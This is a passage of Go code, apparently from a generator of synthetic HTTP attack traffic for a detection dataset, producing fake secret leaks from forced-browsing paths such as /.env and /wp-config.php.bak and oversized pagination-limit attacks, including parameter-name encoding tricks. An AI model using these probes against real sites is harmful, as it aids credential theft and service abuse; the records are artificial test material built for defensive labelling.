		leak{h7CMS, "GET", "/v1/auth/token/debug", "application/json", h7JSON(map[string]any{"token_type": "Bearer", "access_token": g.alnum(40), "client_secret": g.alnum(48)})},
		leak{h7Coin, "GET", "/api/v3/chain/node-config", "application/json", h7JSON(map[string]any{"rpc_url": "https://mainnet.infura.io/v3/" + g.hexs(32), "aws_secret_access_key": g.alnum(40), "aws_access_key_id": "AKIA" + g.upnum(16)})},
	)
	// Config files fetched by forced browsing.
	env := "APP_ENV=production\nAPP_KEY=base64:" + base64.StdEncoding.EncodeToString([]byte(g.alnum(32))) + "\nDB_HOST=10.0.3.17\nDB_PASSWORD=" + g.alnum(20) + "\nAWS_ACCESS_KEY_ID=AKIA" + g.upnum(16) + "\nAWS_SECRET_ACCESS_KEY=" + g.alnum(40) + "\n"
	ini := "[database]\nhost = 10.0.3.17\nuser = cms\npassword = " + g.alnum(16) + "\n\n[mail]\nsmtp_password = " + g.alnum(14) + "\n"
	toml := "[server]\nport = 8080\n\n[database]\nurl = \"postgres://transit:" + g.alnum(18) + "@10.0.4.2:5432/gtfs\"\n\n[secrets]\njwt_secret = \"" + g.alnum(48) + "\"\n"
	ls = append(ls,
		leak{h7CMS, "GET", "/.env", "text/plain", env},
		leak{h7Coin, "GET", "/.env.production", "text/plain", strings.Replace(env, "APP_ENV=production", "NODE_ENV=production\nSTRIPE_SECRET_KEY=sk_live_51N"+g.alnum(96), 1)},
		leak{h7CMS, "GET", "/config/app.ini", "text/plain", ini},
		leak{h7Data, "GET", "/config.toml", "application/toml", toml},
		leak{h7Data, "GET", "/api/v2/.env", "text/plain", "MAPBOX_SECRET_TOKEN=sk." + h7B64URL([]byte(g.alnum(60))) + "\nDATABASE_URL=postgres://opendata:" + g.alnum(16) + "@10.0.3.17/warehouse\n"},
		leak{h7CMS, "GET", "/wp-config.php.bak", "text/plain", "<?php\ndefine('DB_NAME', 'harbor');\ndefine('DB_USER', 'harbor');\ndefine('DB_PASSWORD', '" + g.alnum(16) + "');\ndefine('AUTH_KEY', '" + g.alnum(64) + "');\n"},
		leak{h7Coin, "GET", "/actuator/env", "application/json", h7JSON(map[string]any{"propertySources": []map[string]any{{"name": "systemEnvironment", "properties": map[string]any{"SPRING_DATASOURCE_PASSWORD": map[string]any{"value": g.alnum(18)}, "HOT_WALLET_API_SECRET": map[string]any{"value": g.alnum(48)}}}}})},
		leak{h7Data, "GET", "/api/v2/debug/vars", "application/json", h7JSON(map[string]any{"cmdline": []string{"/usr/local/bin/transit-api", "--db=postgres://transit:" + g.alnum(14) + "@10.0.4.2/gtfs"}})},
	)
	ls = append(ls,
		leak{h7Coin, "GET", "/api/v3/fiat/cards/card_" + g.alnum(14), "application/json", h7JSON(map[string]any{"card": map[string]any{"number": func(c string) string { return c[:4] + "-" + c[4:8] + "-" + c[8:12] + "-" + c[12:] }(card("4", 16)), "expiry": "11/28"}})},
		leak{h7CMS, "GET", "/v1/subscriptions/88213/payment", "application/json", h7JSON(map[string]any{"payment_method": map[string]any{"brand": "amex", "number": card("34", 15)}, "plan": "digital-annual"})},
		leak{h7CMS, "GET", "/v1/audit/logins?per_page=20", "application/json", h7JSON(map[string]any{"events": []map[string]any{{"user": "au-1010", "ok": false, "submitted": map[string]any{"email": "sam@harbortimes.test", "password": "Summer2026!!"}}}})},
		leak{h7Data, "GET", "/api/v2/admin/integrations/slack", "application/json", h7JSON(map[string]any{"user_token": "xoxp-" + fmt.Sprint(100000000000+g.r.Int63n(899999999999)) + "-" + fmt.Sprint(100000000000+g.r.Int63n(899999999999)) + "-" + fmt.Sprint(1000000000000+g.r.Int63n(8999999999999)) + "-" + g.hexs(32)})},
		leak{h7Coin, "GET", "/api/v3/admin/tls", "application/json", h7JSON(map[string]any{"cert": g.pem("CERTIFICATE"), "key": g.pem("EC PRIVATE KEY")})},
		leak{h7CMS, "GET", "/v1/exports/staff.csv", "text/csv", "name,email,aws_access_key_id,aws_secret_access_key\nBuild Bot,bot@harbortimes.test,AKIA" + g.upnum(16) + "," + g.alnum(40) + "\n"},
		leak{h7Data, "GET", "/api/v2/admin/settings", "application/json", h7JSON(map[string]any{"mail": map[string]any{"smtp_url": "smtps://alerts:" + g.alnum(16) + "@smtp.metrocity.test:465"}, "anthropic_api_key": "sk-ant-api03-" + g.alnum(86) + "-" + g.alnum(6) + "AA"})},
		leak{h7Coin, "GET", "/api/v3/admin/custody", "application/json", h7JSON(map[string]any{"provider": "fireblocks", "api_secret_key": g.pem("PRIVATE KEY")})},
		leak{h7CMS, "GET", "/v1/users/311?expand=auth", "application/json", h7JSON(map[string]any{"id": 311, "auth": map[string]any{"password_hash": "$2y$10$" + g.alnum(53), "reset_token": g.alnum(40)}})},
		leak{h7Data, "GET", "/api/v2/admin/integrations/azure", "application/json", h7JSON(map[string]any{"servicebus": "Endpoint=sb://metrocity-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + base64.StdEncoding.EncodeToString([]byte(g.alnum(32)))})},
	)
	for _, l := range ls {
		var a h7Actor
		switch {
		case strings.HasPrefix(l.path, "/.") || strings.HasSuffix(l.path, ".bak") || strings.HasPrefix(l.path, "/config") || strings.HasPrefix(l.path, "/actuator") || strings.Contains(l.path, "debug/vars"):
			a = g.atk(w, l.host, false)
			a.ua = "Fuzz Faster U Fool v2.1.0-dev"
		default:
			a = g.atk(w, l.host, true)
		}
		status := 200
		if l.method == "POST" {
			status = 201
		}
		hdr := map[string][]string{}
		if l.method == "POST" {
			hdr["Content-Type"] = []string{"application/json"}
		}
		body := ""
		if l.method == "POST" {
			body = `{"card_id":"card_` + g.alnum(14) + `"}`
		}
		rh := h7JSONHeaders()
		rh["Content-Type"] = []string{l.ct}
		g.add(a, l.method, "https://"+l.host+l.path, hdr, body, status, rh, l.body, h7DetSens)
	}
}

func (g *h7Gen) limitAttacks(w *h7World) {
	big := []string{"5000", "10000", "50000", "99999", "100000", "1000000", "2147483647", "999999999", "25000", "65535", "9999", "200000"}
	type lc struct{ host, method, path, ct, body string }
	var cs []lc
	qnames := []struct{ host, base, name string }{
		{h7Data, "/api/v2/datasets/7ytq-m2xk/rows?offset=0&", "limit"},
		{h7Data, "/api/v2/datasets?q=permits&", "per_page"},
		{h7CMS, "/v1/articles?status=published&", "per_page"},
		{h7CMS, "/v1/search?q=council&", "pageSize"},
		{h7Coin, "/api/v3/market/trades?symbol=BTC-USDT&", "limit"},
		{h7Coin, "/api/v3/orders?status=all&", "limit"},
		{h7Data, "/api/v2/geo/features?layer=parcels&", "limit"},
		{h7Data, "/odata/v4/Permits?", "$top"},
		{h7CMS, "/v1/articles/19442/comments?", "page_size"},
		{h7Coin, "/api/v3/withdrawals?asset=ETH&", "pageSize"},
		{h7Data, "/api/v2/transit/arrivals?stop_id=STP-00412&", "maxItems"},
		{h7CMS, "/v1/media?", "itemsPerPage"},
		{h7Data, "/api/v2/datasets/bk3p-9a2f/rows?", "results_per_page"},
		{h7Coin, "/api/v3/account/activity?", "max_results"},
		{h7CMS, "/v1/authors?", "perPage"},
		{h7Data, "/api/v2/datasets/c2hd-5uwe/rows?", "rowsPerPage"},
		{h7Coin, "/api/v3/market/klines?symbol=ETH-USDT&interval=1m&", "limit"},
		{h7CMS, "/v1/articles?", "page[size]"},
		{h7Data, "/api/v2/datasets/pz7s-kk41/rows?", "$limit"},
		{h7Coin, "/api/v3/market/depth?symbol=SOL-USDT&", "limit"},
		{h7CMS, "/v1/tags?", "maxResults"},
		{h7Data, "/api/v2/transit/stops?", "recordsPerPage"},
		{h7CMS, "/v1/articles?section=city&", "PER_PAGE"},
		{h7Coin, "/api/v3/orders/history?", "pageLimit"},
		{h7Data, "/api/v2/datasets/tr6w-3m9j/rows?", "numRows"},
		{h7CMS, "/v1/comments/moderation?", "items_per_page"},
		{h7Data, "/api/v2/datasets/q9xe-aa7b/rows?", "%6c%69%6d%69%74"},
		{h7Coin, "/api/v3/market/trades?symbol=XRP-USDT&", "Limit"},
		{h7Data, "/odata/v4/Trees?", "%24top"},
		{h7CMS, "/v1/articles?section=tech&", "per-page"},
		{h7Data, "/api/v2/datasets/f3nb-ug2c/rows?", "max_rows"},
		{h7Coin, "/api/v3/withdrawals?", "num_items"},
		{h7CMS, "/v1/search?q=transit&", "results_limit"},
		{h7Data, "/api/v2/datasets?", "pagesize"},
		{h7Coin, "/api/v3/orders?symbol=BTC-EUR&", "top"},
	}
	for i, q := range qnames {
		v := big[i%len(big)]
		name := q.name
		if strings.Contains(name, "[") {
			name = strings.ReplaceAll(strings.ReplaceAll(name, "[", "%5B"), "]", "%5D")
		}
		cs = append(cs, lc{q.host, "GET", q.base + name + "=" + v, "", ""})
	}
	// Parameter pollution: a small value first, the real one second.
	cs = append(cs,
		lc{h7Data, "GET", "/api/v2/datasets/7ytq-m2xk/rows?limit=100&limit=500000", "", ""},
		lc{h7CMS, "GET", "/v1/articles?per_page=20&per_page=100000", "", ""},
		lc{h7Coin, "GET", "/api/v3/market/trades?symbol=ETH-USDT&limit=50&limit=99999", "", ""},
	)
	// Forms.
	cs = append(cs,
		lc{h7CMS, "POST", "/v1/search", "application/x-www-form-urlencoded", "q=budget&per_page=50000"},
		lc{h7Data, "POST", "/api/v2/datasets/7ytq-m2xk/rows/search", "application/x-www-form-urlencoded", "category=Noise&limit=1000000"},
		lc{h7Coin, "POST", "/api/v3/reports/trades", "application/x-www-form-urlencoded", "from=2020-01-01&to=2026-11-24&pageSize=250000"},
	)
	// JSON at depth.
	js := []struct{ host, path, body string }{
		{h7Data, "/api/v2/query", `{"dataset":"7ytq-m2xk","select":["*"],"pagination":{"page":1,"size":500000}}`},
		{h7Data, "/api/v2/search", `{"query":{"match_all":{}},"from":0,"size":100000}`},
		{h7CMS, "/v1/articles/search", `{"filter":{"section":"city"},"page":{"limit":99999}}`},
		{h7Coin, "/api/v3/orders/query", `{"filters":{"status":"filled"},"paging":{"pageSize":1000000}}`},
		{h7CMS, "/v1/comments/search", `{"criteria":{"article_id":19442},"options":{"per_page":50000}}`},
		{h7Data, "/api/v2/query", `{"dataset":"bk3p-9a2f","pageable":{"page":0,"size":2147483647}}`},
		{h7Coin, "/api/v3/market/history", `{"symbol":"BTC-USDT","range":{"from":"2017-01-01"},"limit":500000}`},
		{h7CMS, "/v1/media/search", `{"q":"harbor","pager":{"itemsPerPage":"20000"}}`},
		{h7Data, "/api/v2/geo/query", `{"layer":"parcels","bbox":[-122.6,37.6,-122.3,37.9],"options":{"paging":{"limit":9999999}}}`},
		{h7Coin, "/api/v3/account/statements", `{"request":{"account":"usr_9101","pagination":{"size":100000,"page":1}}}`},
		{h7CMS, "/v1/users/search", `{"role":"subscriber","maxItems":250000}`},
		{h7Data, "/api/v2/transit/trips/search", `{"route":"38","\u006c\u0069\u006d\u0069\u0074":60000}`},
	}
	for _, j := range js {
		cs = append(cs, lc{j.host, "POST", j.path, "application/json", j.body})
	}
	// GraphQL arguments and variables.
	gq := []string{
		`{"query":"query { articles(limit: 100000) { id title body_html } }"}`,
		`{"query":"query All($n: Int) { articles(per_page: $n) { id title } }","variables":{"n":500000}}`,
		`{"query":"query { comments(articleId: 19442, pageSize: 99999) { id body author } }"}`,
		`{"query":"query Media($ps: Int!) { media(pageSize: $ps, type: IMAGE) { id url } }","variables":{"ps":250000}}`,
		`{"operationName":"Feed","query":"query Feed($limit: Int) { feed(limit: $limit) { id } }","variables":{"limit":1000000}}`,
		`{"query":"{ authors(limit: 50000) { id name articles(limit: 50000) { id } } }"}`,
	}
	for _, q := range gq {
		cs = append(cs, lc{h7CMS, "POST", "/v1/graphql", "application/json", q})
	}
	// /per_page/N paths.
	cs = append(cs,
		lc{h7CMS, "GET", "/v1/archive/2026/per_page/50000", "", ""},
		lc{h7Data, "GET", "/api/v2/catalog/per_page/100000", "", ""},
		lc{h7CMS, "GET", "/v1/tags/city/per_page/9999", "", ""},
	)
	for i, c := range cs {
		hdr := map[string][]string{}
		if c.ct != "" {
			hdr["Content-Type"] = []string{c.ct}
		}
		a := g.atk(w, c.host, c.host != h7Data || i%2 == 0)
		if i%3 == 0 {
			a.ua = g.pick([]string{"python-requests/2.31.0", "curl/8.7.1", "Go-http-client/1.1"})
		}
		status := []int{200, 200, 400, 200}[i%4]
		resp := `{"data":[],"note":"truncated"}`
		if status == 400 {
			resp = `{"error":"limit_too_large","max":1000}`
		}
		g.add(a, c.method, "https://"+c.host+c.path, hdr, c.body, status, nil, resp, h7DetLim)
	}
	// JSON bodies above 10 MiB (captured in part).
	for i, p := range []string{"/api/v2/admin/datasets/7ytq-m2xk/rows/bulk", "/v1/import/json", "/api/v3/orders/batch", "/api/v2/import/geojson"} {
		host := []string{h7Data, h7CMS, h7Coin, h7Data}[i]
		var rows []string
		for k := 0; k < 40; k++ {
			rows = append(rows, fmt.Sprintf(`{"id":%d,"v":"%s"}`, k, g.alnum(24)))
		}
		body := `{"rows":[` + strings.Join(rows, ",")
		a := g.atk(w, host, true)
		g.add(a, "POST", "https://"+host+p, h7Hdr("Content-Type", "application/json"), body, 413, nil, `{"error":"payload_too_large"}`, h7DetLim)
		it := &g.items[len(g.items)-1]
		it.x.Request.BodySize = (11 + 3*i) * 1024 * 1024
	}
}
